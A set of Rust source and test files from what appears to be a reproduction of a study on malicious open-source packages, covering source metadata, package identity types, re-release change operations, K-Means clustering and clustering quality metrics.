    fn slug_round_trips() {
        for src in SourceId::ALL {
            assert_eq!(src.slug().parse::<SourceId>().unwrap(), src);
        }
    }

    #[test]
    fn categories_match_table1() {
        use SourceCategory::*;
        assert_eq!(SourceId::BackstabberKnife.category(), Academia);
        assert_eq!(SourceId::Maloss.category(), Academia);
        assert_eq!(SourceId::MalPyPI.category(), Academia);
        assert_eq!(SourceId::SnykIo.category(), Industry);
        assert_eq!(SourceId::Tianwen.category(), Industry);
        assert_eq!(SourceId::GitHubAdvisory.category(), Industry);
        assert_eq!(SourceId::IndividualBlogs.category(), Individual);
    }

    #[test]
    fn dataset_dumps_are_the_fully_available_sources() {
        // Table VI: Maloss, Mal-PyPI and DataDog have ~0% missing rate
        // precisely because they publish archives.
        for src in [SourceId::Maloss, SourceId::MalPyPI, SourceId::DataDog] {
            assert_eq!(src.publication_style(), PublicationStyle::DatasetDump);
        }
        assert_eq!(
            SourceId::Phylum.publication_style(),
            PublicationStyle::ReportPages
        );
    }

    #[test]
    fn update_frequency_labels_match_table5() {
        assert_eq!(
            SourceId::BackstabberKnife.update_frequency_label(),
            "Never update"
        );
        assert_eq!(SourceId::Maloss.update_frequency_label(), "one per 3 month");
        assert_eq!(SourceId::Phylum.update_frequency_label(), "one per 1 month");
        assert_eq!(SourceId::SnykIo.update_frequency_label(), "one per 2 month");
    }

    #[test]
    fn abbrevs_are_unique() {
        let mut abbrevs: Vec<_> = SourceId::ALL.iter().map(|s| s.abbrev()).collect();
        abbrevs.sort_unstable();
        abbrevs.dedup();
        assert_eq!(abbrevs.len(), 10);
    }
}
