//! Domain types shared by every crate in the MALGRAPH reproduction.
//!
//! The paper studies *malicious packages*: artifacts published to an
//! open-source software (OSS) registry that carry unauthorized behaviour.
//! This crate defines the vocabulary used throughout the workspace:
//!
//! * [`Ecosystem`] — the ten package registries covered by the corpus;
//! * [`PackageName`] / [`Version`] / [`PackageId`] — package identity;
//! * [`Sha256`] — artifact signatures (implemented from scratch, the
//!   stand-in for Python's `hashlib` in the paper's prototype);
//! * [`SimTime`] / [`SimDuration`] — simulated wall-clock time, so the whole
//!   study is deterministic and independent of the host clock;
//! * [`SourceId`] — the ten online sources malicious packages are
//!   collected from (Table I of the paper);
//! * [`ChangeOp`] — the five *changing operations* between consecutive
//!   release attempts of a campaign (Fig. 12): CN, CV, CD, CDep, CC;
//! * [`ActorId`] — an adversary identity used by the simulator and, where
//!   reports disclose it, by the analyses;
//! * [`FetchError`] / [`FaultConfig`] / [`RetryPolicy`] — the collection
//!   transport's fault model: failure categories, per-category rates and
//!   the bounded deterministic backoff schedule;
//! * [`CrashPlan`] / [`CrashSignal`] — deterministic simulated process
//!   deaths at named pipeline stage boundaries, for crash-recovery
//!   testing.
//!
//! # Examples
//!
//! ```
//! use oss_types::{Ecosystem, PackageId, PackageName, SimTime, Version};
//!
//! let name: PackageName = "loglib-modules".parse()?;
//! let version: Version = "1.0.3".parse()?;
//! let id = PackageId::new(Ecosystem::PyPI, name, version);
//! assert_eq!(id.to_string(), "pypi/loglib-modules@1.0.3");
//!
//! let t = SimTime::from_ymd(2023, 8, 9);
//! assert_eq!(t.year(), 2023);
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod actor;
pub mod crash;
pub mod ecosystem;
pub mod error;
pub mod fetch;
pub mod hash;
pub mod name;
pub mod ops;
pub mod package;
pub mod source;
pub mod time;

pub use actor::ActorId;
pub use crash::{CrashPlan, CrashSignal};
pub use ecosystem::Ecosystem;
pub use error::ParseError;
pub use fetch::{FaultConfig, FetchError, RetryPolicy};
pub use hash::Sha256;
pub use name::PackageName;
pub use ops::{ChangeOp, OpSet};
pub use package::{PackageId, Version};
pub use source::{SourceCategory, SourceId};
pub use time::{SimDuration, SimTime};
