//! Changing operations between consecutive release attempts.
//!
//! After a malicious package is removed, the attacker must *change* it to
//! release again (paper §IV-E). The paper distinguishes five operations;
//! a single re-release usually applies several at once, so they are also
//! collected into an [`OpSet`].

use std::fmt;

/// One changing operation (paper Fig. 12).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum ChangeOp {
    /// CN — changing the package name.
    ChangeName,
    /// CV — changing only the version.
    ChangeVersion,
    /// CD — changing the description.
    ChangeDescription,
    /// CDep — changing the dependency list.
    ChangeDependency,
    /// CC — changing the source code.
    ChangeCode,
}

impl ChangeOp {
    /// All five operations in the paper's plotting order.
    pub const ALL: [ChangeOp; 5] = [
        ChangeOp::ChangeName,
        ChangeOp::ChangeVersion,
        ChangeOp::ChangeDescription,
        ChangeOp::ChangeDependency,
        ChangeOp::ChangeCode,
    ];

    /// Short label used in Fig. 12 and Table VIII.
    pub fn label(self) -> &'static str {
        match self {
            ChangeOp::ChangeName => "CN",
            ChangeOp::ChangeVersion => "CV",
            ChangeOp::ChangeDescription => "CD",
            ChangeOp::ChangeDependency => "CDep",
            ChangeOp::ChangeCode => "CC",
        }
    }

    fn bit(self) -> u8 {
        match self {
            ChangeOp::ChangeName => 1,
            ChangeOp::ChangeVersion => 1 << 1,
            ChangeOp::ChangeDescription => 1 << 2,
            ChangeOp::ChangeDependency => 1 << 3,
            ChangeOp::ChangeCode => 1 << 4,
        }
    }
}

impl fmt::Display for ChangeOp {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

/// A set of [`ChangeOp`]s applied in one re-release attempt, e.g.
/// `(CDep, CD, CN, CC)` in Table VIII.
///
/// # Examples
///
/// ```
/// use oss_types::{ChangeOp, OpSet};
///
/// let mut ops = OpSet::empty();
/// ops.insert(ChangeOp::ChangeName);
/// ops.insert(ChangeOp::ChangeCode);
/// assert!(ops.contains(ChangeOp::ChangeName));
/// assert_eq!(ops.len(), 2);
/// assert_eq!(ops.to_string(), "(CN, CC)");
/// ```
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default,
)]
pub struct OpSet(u8);

impl OpSet {
    /// The empty set.
    pub const fn empty() -> Self {
        OpSet(0)
    }

    /// Whether no operation is in the set.
    pub fn is_empty(self) -> bool {
        self.0 == 0
    }

    /// Inserts an operation; returns whether it was newly inserted.
    pub fn insert(&mut self, op: ChangeOp) -> bool {
        let had = self.contains(op);
        self.0 |= op.bit();
        !had
    }

    /// Removes an operation; returns whether it was present.
    pub fn remove(&mut self, op: ChangeOp) -> bool {
        let had = self.contains(op);
        self.0 &= !op.bit();
        had
    }

    /// Whether `op` is in the set.
    pub fn contains(self, op: ChangeOp) -> bool {
        self.0 & op.bit() != 0
    }

    /// Number of operations in the set.
    pub fn len(self) -> usize {
        self.0.count_ones() as usize
    }

    /// Iterates the contained operations in canonical order
    /// (CDep, CD, CN, CC, CV — the order Table VIII prints op tuples).
    pub fn iter(self) -> impl Iterator<Item = ChangeOp> {
        const TABLE8_ORDER: [ChangeOp; 5] = [
            ChangeOp::ChangeDependency,
            ChangeOp::ChangeDescription,
            ChangeOp::ChangeName,
            ChangeOp::ChangeCode,
            ChangeOp::ChangeVersion,
        ];
        TABLE8_ORDER.into_iter().filter(move |op| self.contains(*op))
    }

    /// Union of two sets.
    pub fn union(self, other: OpSet) -> OpSet {
        OpSet(self.0 | other.0)
    }
}

impl FromIterator<ChangeOp> for OpSet {
    fn from_iter<I: IntoIterator<Item = ChangeOp>>(iter: I) -> Self {
        let mut set = OpSet::empty();
        for op in iter {
            set.insert(op);
        }
        set
    }
}

impl Extend<ChangeOp> for OpSet {
    fn extend<I: IntoIterator<Item = ChangeOp>>(&mut self, iter: I) {
        for op in iter {
            self.insert(op);
        }
    }
}

impl fmt::Display for OpSet {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "(")?;
        for (i, op) in self.iter().enumerate() {
            if i > 0 {
                write!(f, ", ")?;
            }
            write!(f, "{op}")?;
        }
        write!(f, ")")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn insert_remove_contains() {
        let mut set = OpSet::empty();
        assert!(set.is_empty());
        assert!(set.insert(ChangeOp::ChangeName));
        assert!(!set.insert(ChangeOp::ChangeName), "double insert");
        assert!(set.contains(ChangeOp::ChangeName));
        assert!(!set.contains(ChangeOp::ChangeCode));
        assert!(set.remove(ChangeOp::ChangeName));
        assert!(!set.remove(ChangeOp::ChangeName), "double remove");
        assert!(set.is_empty());
    }

    #[test]
    fn from_iterator_and_len() {
        let set: OpSet = [ChangeOp::ChangeName, ChangeOp::ChangeCode, ChangeOp::ChangeName]
            .into_iter()
            .collect();
        assert_eq!(set.len(), 2);
    }

    #[test]
    fn display_uses_table8_order() {
        let set: OpSet = [
            ChangeOp::ChangeCode,
            ChangeOp::ChangeName,
            ChangeOp::ChangeDescription,
            ChangeOp::ChangeDependency,
        ]
        .into_iter()
        .collect();
        // Table VIII prints e.g. "(CDep, CD, CN, CC)".
        assert_eq!(set.to_string(), "(CDep, CD, CN, CC)");
    }

    #[test]
    fn union_combines() {
        let a: OpSet = [ChangeOp::ChangeName].into_iter().collect();
        let b: OpSet = [ChangeOp::ChangeVersion].into_iter().collect();
        let u = a.union(b);
        assert!(u.contains(ChangeOp::ChangeName));
        assert!(u.contains(ChangeOp::ChangeVersion));
        assert_eq!(u.len(), 2);
    }

    #[test]
    fn empty_set_displays_as_unit() {
        assert_eq!(OpSet::empty().to_string(), "()");
    }

    #[test]
    fn all_ops_have_unique_labels_and_bits() {
        let mut labels: Vec<_> = ChangeOp::ALL.iter().map(|o| o.label()).collect();
        labels.sort_unstable();
        labels.dedup();
        assert_eq!(labels.len(), 5);
        let full: OpSet = ChangeOp::ALL.into_iter().collect();
        assert_eq!(full.len(), 5);
    }
}
