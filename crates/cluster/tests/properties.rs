//! Property-based tests for K-Means: the converged solution must satisfy
//! the Lloyd invariants regardless of input shape, and the parallel
//! engine must be bitwise insensitive to its thread count.

use cluster::{kmeans, kmeans_warm, KMeansConfig};
use proptest::prelude::*;
use rand::rngs::StdRng;
use rand::SeedableRng;

fn arb_points() -> impl Strategy<Value = Vec<Vec<f32>>> {
    proptest::collection::vec(
        proptest::collection::vec(-100.0f32..100.0, 2),
        1..40,
    )
}

fn dist_sq(a: &[f32], b: &[f32]) -> f32 {
    a.iter().zip(b).map(|(x, y)| (x - y) * (x - y)).sum()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn every_point_is_assigned_to_its_nearest_centroid(
        data in arb_points(),
        k in 1usize..6,
        seed in 0u64..1000,
    ) {
        let mut rng = StdRng::seed_from_u64(seed);
        let res = kmeans(&data, k, &KMeansConfig::default(), &mut rng);
        for (i, point) in data.iter().enumerate() {
            let own = dist_sq(point, &res.centroids[res.assignments[i]]);
            for centroid in &res.centroids {
                prop_assert!(
                    own <= dist_sq(point, centroid) + 1e-3,
                    "point {} not assigned to nearest centroid",
                    i
                );
            }
        }
    }

    #[test]
    fn inertia_equals_sum_of_squared_distances(
        data in arb_points(),
        k in 1usize..6,
        seed in 0u64..1000,
    ) {
        let mut rng = StdRng::seed_from_u64(seed);
        let res = kmeans(&data, k, &KMeansConfig::default(), &mut rng);
        let recomputed: f32 = data
            .iter()
            .enumerate()
            .map(|(i, p)| dist_sq(p, &res.centroids[res.assignments[i]]))
            .sum();
        let scale = recomputed.abs().max(1.0);
        prop_assert!(
            (res.inertia - recomputed).abs() / scale < 1e-3,
            "inertia {} vs recomputed {}",
            res.inertia,
            recomputed
        );
    }

    #[test]
    fn assignments_form_a_partition(
        data in arb_points(),
        k in 1usize..6,
        seed in 0u64..1000,
    ) {
        let mut rng = StdRng::seed_from_u64(seed);
        let res = kmeans(&data, k, &KMeansConfig::default(), &mut rng);
        prop_assert_eq!(res.assignments.len(), data.len());
        prop_assert!(res.assignments.iter().all(|&a| a < res.k()));
        let sizes = res.cluster_sizes();
        prop_assert_eq!(sizes.iter().sum::<usize>(), data.len());
        let flattened: usize = res.clusters().iter().map(Vec::len).sum();
        prop_assert_eq!(flattened, data.len());
    }

    #[test]
    fn kmeans_is_deterministic_per_seed(
        data in arb_points(),
        k in 1usize..6,
        seed in 0u64..1000,
    ) {
        let run = || {
            let mut rng = StdRng::seed_from_u64(seed);
            kmeans(&data, k, &KMeansConfig::default(), &mut rng)
        };
        let a = run();
        let b = run();
        prop_assert_eq!(a.assignments, b.assignments);
        prop_assert_eq!(a.centroids, b.centroids);
    }

    #[test]
    fn more_clusters_never_increase_inertia_much(
        data in arb_points(),
        seed in 0u64..1000,
    ) {
        prop_assume!(data.len() >= 4);
        let mut rng = StdRng::seed_from_u64(seed);
        let k1 = kmeans(&data, 1, &KMeansConfig::default(), &mut rng);
        let kn = kmeans(&data, data.len(), &KMeansConfig::default(), &mut rng);
        // k = n is always (near) zero inertia; k = 1 is the upper bound.
        prop_assert!(kn.inertia <= k1.inertia + 1e-3);
        prop_assert!(kn.inertia < 1e-3);
    }

    /// The determinism contract: serial (1 thread) and parallel (N
    /// threads) runs of the same configuration are bitwise identical —
    /// assignments, inertia *and* centroids. A small chunk size forces
    /// multi-chunk merging even on these small inputs.
    #[test]
    fn parallel_equals_serial_bitwise(
        data in arb_points(),
        k in 1usize..6,
        seed in 0u64..1000,
        threads in 2usize..6,
    ) {
        let run = |threads: usize| {
            let mut rng = StdRng::seed_from_u64(seed);
            let config = KMeansConfig { threads, chunk: 4, ..KMeansConfig::default() };
            kmeans(&data, k, &config, &mut rng)
        };
        let serial = run(1);
        let parallel = run(threads);
        prop_assert_eq!(&serial.assignments, &parallel.assignments);
        prop_assert_eq!(serial.inertia.to_bits(), parallel.inertia.to_bits());
        prop_assert_eq!(serial.iterations, parallel.iterations);
        for (a, b) in serial.centroids.iter().zip(&parallel.centroids) {
            let ab: Vec<u32> = a.iter().map(|v| v.to_bits()).collect();
            let bb: Vec<u32> = b.iter().map(|v| v.to_bits()).collect();
            prop_assert_eq!(ab, bb);
        }
    }

    /// Warm starts obey the same invariants as cold starts: a valid
    /// partition, and never a worse objective than the run they extend.
    #[test]
    fn warm_start_extends_without_regressing(
        data in arb_points(),
        k in 1usize..4,
        extra in 1usize..4,
        seed in 0u64..1000,
    ) {
        prop_assume!(data.len() >= 2);
        let mut rng = StdRng::seed_from_u64(seed);
        let coarse = kmeans(&data, k, &KMeansConfig::default(), &mut rng);
        let fine = kmeans_warm(&data, &coarse.centroids, extra, &KMeansConfig::default(), &mut rng);
        prop_assert_eq!(fine.k(), (coarse.k() + extra).min(data.len()));
        prop_assert_eq!(fine.assignments.len(), data.len());
        prop_assert!(fine.assignments.iter().all(|&a| a < fine.k()));
        prop_assert!(
            fine.inertia <= coarse.inertia * 1.001 + 1e-3,
            "warm start regressed: {} vs {}",
            fine.inertia,
            coarse.inertia
        );
    }
}
