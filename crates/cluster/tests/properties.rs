//! Property-based tests for K-Means: the converged solution must satisfy
//! the Lloyd invariants regardless of input shape, and the parallel
//! engine must be bitwise insensitive to its thread count.

use cluster::matrix::{dense_dot, sparse_dot_sparse};
use cluster::{kmeans, kmeans_warm, KMeansConfig, Kernel, Points};
use proptest::prelude::*;
use rand::rngs::StdRng;
use rand::SeedableRng;

fn arb_points() -> impl Strategy<Value = Vec<Vec<f32>>> {
    proptest::collection::vec(
        proptest::collection::vec(-100.0f32..100.0, 2),
        1..40,
    )
}

/// Mostly-zero rows in a higher dimension: the shape the sparse kernels
/// and the i8 screen are built for, riddled with exact zeros and
/// near-ties.
fn arb_sparse_points() -> impl Strategy<Value = Vec<Vec<f32>>> {
    proptest::collection::vec(
        proptest::collection::vec(
            (0u8..5, -1.0f32..1.0).prop_map(|(g, v)| if g < 3 { 0.0 } else { v }),
            24,
        ),
        2..40,
    )
}

fn dist_sq(a: &[f32], b: &[f32]) -> f32 {
    a.iter().zip(b).map(|(x, y)| (x - y) * (x - y)).sum()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn every_point_is_assigned_to_its_nearest_centroid(
        data in arb_points(),
        k in 1usize..6,
        seed in 0u64..1000,
    ) {
        let mut rng = StdRng::seed_from_u64(seed);
        let res = kmeans(&data, k, &KMeansConfig::default(), &mut rng);
        for (i, point) in data.iter().enumerate() {
            let own = dist_sq(point, &res.centroids[res.assignments[i]]);
            for centroid in &res.centroids {
                prop_assert!(
                    own <= dist_sq(point, centroid) + 1e-3,
                    "point {} not assigned to nearest centroid",
                    i
                );
            }
        }
    }

    #[test]
    fn inertia_equals_sum_of_squared_distances(
        data in arb_points(),
        k in 1usize..6,
        seed in 0u64..1000,
    ) {
        let mut rng = StdRng::seed_from_u64(seed);
        let res = kmeans(&data, k, &KMeansConfig::default(), &mut rng);
        let recomputed: f32 = data
            .iter()
            .enumerate()
            .map(|(i, p)| dist_sq(p, &res.centroids[res.assignments[i]]))
            .sum();
        let scale = recomputed.abs().max(1.0);
        prop_assert!(
            (res.inertia - recomputed).abs() / scale < 1e-3,
            "inertia {} vs recomputed {}",
            res.inertia,
            recomputed
        );
    }

    #[test]
    fn assignments_form_a_partition(
        data in arb_points(),
        k in 1usize..6,
        seed in 0u64..1000,
    ) {
        let mut rng = StdRng::seed_from_u64(seed);
        let res = kmeans(&data, k, &KMeansConfig::default(), &mut rng);
        prop_assert_eq!(res.assignments.len(), data.len());
        prop_assert!(res.assignments.iter().all(|&a| a < res.k()));
        let sizes = res.cluster_sizes();
        prop_assert_eq!(sizes.iter().sum::<usize>(), data.len());
        let flattened: usize = res.clusters().iter().map(Vec::len).sum();
        prop_assert_eq!(flattened, data.len());
    }

    #[test]
    fn kmeans_is_deterministic_per_seed(
        data in arb_points(),
        k in 1usize..6,
        seed in 0u64..1000,
    ) {
        let run = || {
            let mut rng = StdRng::seed_from_u64(seed);
            kmeans(&data, k, &KMeansConfig::default(), &mut rng)
        };
        let a = run();
        let b = run();
        prop_assert_eq!(a.assignments, b.assignments);
        prop_assert_eq!(a.centroids, b.centroids);
    }

    #[test]
    fn more_clusters_never_increase_inertia_much(
        data in arb_points(),
        seed in 0u64..1000,
    ) {
        prop_assume!(data.len() >= 4);
        let mut rng = StdRng::seed_from_u64(seed);
        let k1 = kmeans(&data, 1, &KMeansConfig::default(), &mut rng);
        let kn = kmeans(&data, data.len(), &KMeansConfig::default(), &mut rng);
        // k = n is always (near) zero inertia; k = 1 is the upper bound.
        prop_assert!(kn.inertia <= k1.inertia + 1e-3);
        prop_assert!(kn.inertia < 1e-3);
    }

    /// The determinism contract: serial (1 thread) and parallel (N
    /// threads) runs of the same configuration are bitwise identical —
    /// assignments, inertia *and* centroids. A small chunk size forces
    /// multi-chunk merging even on these small inputs.
    #[test]
    fn parallel_equals_serial_bitwise(
        data in arb_points(),
        k in 1usize..6,
        seed in 0u64..1000,
        threads in 2usize..6,
    ) {
        let run = |threads: usize| {
            let mut rng = StdRng::seed_from_u64(seed);
            let config = KMeansConfig { threads, chunk: 4, ..KMeansConfig::default() };
            kmeans(&data, k, &config, &mut rng)
        };
        let serial = run(1);
        let parallel = run(threads);
        prop_assert_eq!(&serial.assignments, &parallel.assignments);
        prop_assert_eq!(serial.inertia.to_bits(), parallel.inertia.to_bits());
        prop_assert_eq!(serial.iterations, parallel.iterations);
        for (a, b) in serial.centroids.iter().zip(&parallel.centroids) {
            let ab: Vec<u32> = a.iter().map(|v| v.to_bits()).collect();
            let bb: Vec<u32> = b.iter().map(|v| v.to_bits()).collect();
            prop_assert_eq!(ab, bb);
        }
    }

    /// The tentpole equivalence property: every kernel × thread-count
    /// combination is bitwise identical to the dense-scalar single-thread
    /// reference — assignments, inertia, centroids, iteration count. In
    /// particular this proves the quantized screen lossless for K-Means:
    /// whatever it prunes, not one output bit moves.
    #[test]
    fn kernels_and_threads_are_bitwise_equivalent(
        data in arb_sparse_points(),
        k in 1usize..8,
        seed in 0u64..1000,
    ) {
        let run = |kernel: Kernel, threads: usize| {
            let mut rng = StdRng::seed_from_u64(seed);
            let config = KMeansConfig { kernel, threads, chunk: 8, ..KMeansConfig::default() };
            kmeans(&data, k, &config, &mut rng)
        };
        let reference = run(Kernel::DenseScalar, 1);
        for kernel in [Kernel::DenseScalar, Kernel::Tiled, Kernel::TiledQuantized] {
            for threads in [1usize, 7] {
                let other = run(kernel, threads);
                prop_assert_eq!(
                    &reference.assignments, &other.assignments,
                    "{:?} threads={}", kernel, threads
                );
                prop_assert_eq!(
                    reference.inertia.to_bits(), other.inertia.to_bits(),
                    "{:?} threads={}", kernel, threads
                );
                prop_assert_eq!(reference.iterations, other.iterations);
                for (a, b) in reference.centroids.iter().zip(&other.centroids) {
                    let ab: Vec<u32> = a.iter().map(|v| v.to_bits()).collect();
                    let bb: Vec<u32> = b.iter().map(|v| v.to_bits()).collect();
                    prop_assert_eq!(ab, bb, "{:?} threads={}", kernel, threads);
                }
            }
        }
    }

    /// The refinement screen's certificate, stressed directly: for every
    /// pair the i8 window must contain the exact f32 dot, and the
    /// pruned+rescored pair set at any threshold must equal brute force.
    #[test]
    fn quantized_pair_screen_is_lossless(
        data in arb_sparse_points(),
        threshold in -0.5f32..1.0,
    ) {
        // L2-normalize (zero rows stay zero), like embedder output.
        let rows: Vec<Vec<f32>> = data
            .iter()
            .map(|r| {
                let n = r.iter().map(|v| v * v).sum::<f32>().sqrt();
                if n == 0.0 { r.clone() } else { r.iter().map(|v| v / n).collect() }
            })
            .collect();
        let points = Points::from_dense_rows(&rows);
        let quant = points.quant();
        for i in 0..rows.len() {
            for j in (i + 1)..rows.len() {
                let exact = dense_dot(&rows[i], &rows[j]);
                let (ai, av) = points.sparse().row(i);
                let (bi, bv) = points.sparse().row(j);
                // Sparse and dense exact kernels agree (zero-sign aside).
                prop_assert_eq!(
                    (exact + 0.0).to_bits(),
                    (sparse_dot_sparse(ai, av, bi, bv) + 0.0).to_bits()
                );
                // The certified window contains the exact kernel value.
                let (approx, err) = quant.dot_window(i, quant, j);
                prop_assert!(
                    (f64::from(exact) - approx).abs() <= err,
                    "window missed: exact {} vs {} ± {}", exact, approx, err
                );
                // Screen + rescore decides exactly like brute force.
                let brute = exact.clamp(-1.0, 1.0) >= threshold;
                let screened = if quant.pair_upper_bound(i, quant, j) < f64::from(threshold) {
                    false
                } else {
                    exact.clamp(-1.0, 1.0) >= threshold
                };
                prop_assert_eq!(brute, screened, "pair ({}, {})", i, j);
            }
        }
    }

    /// Warm starts obey the same invariants as cold starts: a valid
    /// partition, and never a worse objective than the run they extend.
    #[test]
    fn warm_start_extends_without_regressing(
        data in arb_points(),
        k in 1usize..4,
        extra in 1usize..4,
        seed in 0u64..1000,
    ) {
        prop_assume!(data.len() >= 2);
        let mut rng = StdRng::seed_from_u64(seed);
        let coarse = kmeans(&data, k, &KMeansConfig::default(), &mut rng);
        let fine = kmeans_warm(&data, &coarse.centroids, extra, &KMeansConfig::default(), &mut rng);
        prop_assert_eq!(fine.k(), (coarse.k() + extra).min(data.len()));
        prop_assert_eq!(fine.assignments.len(), data.len());
        prop_assert!(fine.assignments.iter().all(|&a| a < fine.k()));
        prop_assert!(
            fine.inertia <= coarse.inertia * 1.001 + 1e-3,
            "warm start regressed: {} vs {}",
            fine.inertia,
            coarse.inertia
        );
    }
}
