//! Clustering quality metrics: silhouette score and adjusted Rand index.
//!
//! The paper has no ground truth for the similar relation ("There is no
//! ground truth dataset to validate the similarity relationship", §III-C)
//! and falls back to manual inspection. The simulator *does* know the
//! truth (which campaign generated each package), so the reproduction can
//! quantify what the paper could not: ARI against ground-truth campaigns
//! and silhouette for internal cohesion. Both feed the validation tests
//! and the embedding-dimension ablation bench.

/// Mean silhouette coefficient over all points, in `[-1, 1]`.
///
/// Returns `None` when silhouette is undefined: fewer than 2 clusters or
/// fewer than 2 points.
///
/// # Panics
///
/// Panics if `assignments.len() != data.len()` or any label is out of
/// range.
pub fn silhouette<P: AsRef<[f32]>>(data: &[P], assignments: &[usize], k: usize) -> Option<f32> {
    assert_eq!(data.len(), assignments.len(), "label/point count mismatch");
    assert!(
        assignments.iter().all(|&a| a < k),
        "assignment out of range"
    );
    if k < 2 || data.len() < 2 {
        return None;
    }

    let mut members = vec![Vec::new(); k];
    for (i, &a) in assignments.iter().enumerate() {
        members[a].push(i);
    }

    let dist = |i: usize, j: usize| -> f32 {
        data[i]
            .as_ref()
            .iter()
            .zip(data[j].as_ref())
            .map(|(a, b)| {
                let d = a - b;
                d * d
            })
            .sum::<f32>()
            .sqrt()
    };

    let mut total = 0.0f32;
    let mut counted = 0usize;
    for (i, &own) in assignments.iter().enumerate() {
        if members[own].len() <= 1 {
            // Singleton clusters contribute silhouette 0 by convention.
            counted += 1;
            continue;
        }
        let a: f32 = members[own]
            .iter()
            .filter(|&&j| j != i)
            .map(|&j| dist(i, j))
            .sum::<f32>()
            / (members[own].len() - 1) as f32;
        let b = (0..k)
            .filter(|&c| c != own && !members[c].is_empty())
            .map(|c| {
                members[c].iter().map(|&j| dist(i, j)).sum::<f32>() / members[c].len() as f32
            })
            .fold(f32::INFINITY, f32::min);
        if b.is_finite() {
            let s = (b - a) / a.max(b);
            total += s;
        }
        counted += 1;
    }
    if counted == 0 {
        None
    } else {
        Some(total / counted as f32)
    }
}

/// Adjusted Rand index between two labelings, 1.0 for identical
/// partitions, ~0.0 for independent ones.
///
/// # Panics
///
/// Panics if the labelings have different lengths or are empty.
pub fn adjusted_rand_index(labels_a: &[usize], labels_b: &[usize]) -> f64 {
    assert_eq!(labels_a.len(), labels_b.len(), "labeling length mismatch");
    assert!(!labels_a.is_empty(), "labelings must be non-empty");
    let n = labels_a.len();
    let ka = labels_a.iter().max().expect("non-empty") + 1;
    let kb = labels_b.iter().max().expect("non-empty") + 1;

    // Contingency table.
    let mut table = vec![vec![0u64; kb]; ka];
    for (&a, &b) in labels_a.iter().zip(labels_b) {
        table[a][b] += 1;
    }
    let choose2 = |x: u64| -> f64 { (x as f64) * (x as f64 - 1.0) / 2.0 };

    let sum_ij: f64 = table
        .iter()
        .flat_map(|row| row.iter())
        .map(|&c| choose2(c))
        .sum();
    let sum_a: f64 = table
        .iter()
        .map(|row| choose2(row.iter().sum::<u64>()))
        .sum();
    let sum_b: f64 = (0..kb)
        .map(|j| choose2(table.iter().map(|row| row[j]).sum::<u64>()))
        .sum();
    let total = choose2(n as u64);
    let expected = sum_a * sum_b / total;
    let max_index = (sum_a + sum_b) / 2.0;
    if (max_index - expected).abs() < f64::EPSILON {
        return 1.0; // both partitions are trivial and identical in structure
    }
    (sum_ij - expected) / (max_index - expected)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn silhouette_high_for_separated_blobs() {
        let data = vec![
            vec![0.0, 0.0],
            vec![0.2, 0.1],
            vec![0.1, 0.2],
            vec![10.0, 10.0],
            vec![10.2, 10.1],
            vec![10.1, 10.2],
        ];
        let labels = vec![0, 0, 0, 1, 1, 1];
        let s = silhouette(&data, &labels, 2).unwrap();
        assert!(s > 0.9, "expected near-perfect silhouette, got {s}");
    }

    #[test]
    fn silhouette_low_for_bad_split() {
        let data = vec![
            vec![0.0, 0.0],
            vec![0.2, 0.1],
            vec![10.0, 10.0],
            vec![10.2, 10.1],
        ];
        let bad = vec![0, 1, 0, 1]; // splits both blobs across clusters
        let s = silhouette(&data, &bad, 2).unwrap();
        assert!(s < 0.0, "bad split should be negative, got {s}");
    }

    #[test]
    fn silhouette_undefined_for_one_cluster() {
        let data = vec![vec![0.0], vec![1.0]];
        assert!(silhouette(&data, &[0, 0], 1).is_none());
    }

    #[test]
    fn silhouette_singletons_are_zero() {
        let data = vec![vec![0.0], vec![5.0]];
        let s = silhouette(&data, &[0, 1], 2).unwrap();
        assert_eq!(s, 0.0);
    }

    #[test]
    fn ari_identical_partitions() {
        let a = vec![0, 0, 1, 1, 2, 2];
        assert!((adjusted_rand_index(&a, &a) - 1.0).abs() < 1e-9);
        // Label permutation does not matter.
        let b = vec![2, 2, 0, 0, 1, 1];
        assert!((adjusted_rand_index(&a, &b) - 1.0).abs() < 1e-9);
    }

    #[test]
    fn ari_disagreement_is_low() {
        let a = vec![0, 0, 0, 1, 1, 1];
        let b = vec![0, 1, 0, 1, 0, 1];
        assert!(adjusted_rand_index(&a, &b) < 0.3);
    }

    #[test]
    fn ari_partial_agreement_is_intermediate() {
        let a = vec![0, 0, 0, 0, 1, 1, 1, 1];
        let b = vec![0, 0, 0, 1, 1, 1, 1, 1]; // one point moved
        let ari = adjusted_rand_index(&a, &b);
        assert!(ari > 0.3 && ari < 1.0, "ari {ari}");
    }

    #[test]
    #[should_panic(expected = "length mismatch")]
    fn ari_length_mismatch_panics() {
        adjusted_rand_index(&[0, 1], &[0]);
    }
}
