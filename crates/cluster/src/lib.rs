//! K-Means clustering, from scratch.
//!
//! The paper clusters package embeddings with scikit-learn's K-Means:
//! "The initial number of clusters is set to 3, and we increase the number
//! of clusters until the centroids of newly formed clusters do not change"
//! (§III-A). This crate reimplements that pipeline:
//!
//! * [`kmeans`] — k-means++ seeding + Lloyd iterations;
//! * [`auto_kmeans`] — the paper's grow-k-until-stable schedule;
//! * [`metrics`] — silhouette score, adjusted Rand index and inertia, used
//!   by the validation tests and the ablation benchmarks.
//!
//! Points are plain `&[f32]` slices so the crate has no dependency on the
//! embedding layer.
//!
//! # Examples
//!
//! ```
//! use cluster::{kmeans, KMeansConfig};
//! use rand::rngs::StdRng;
//! use rand::SeedableRng;
//!
//! let data = vec![
//!     vec![0.0, 0.0], vec![0.1, 0.0], vec![10.0, 10.0], vec![10.1, 10.0],
//! ];
//! let mut rng = StdRng::seed_from_u64(1);
//! let result = kmeans(&data, 2, &KMeansConfig::default(), &mut rng);
//! assert_eq!(result.assignments[0], result.assignments[1]);
//! assert_ne!(result.assignments[0], result.assignments[2]);
//! ```

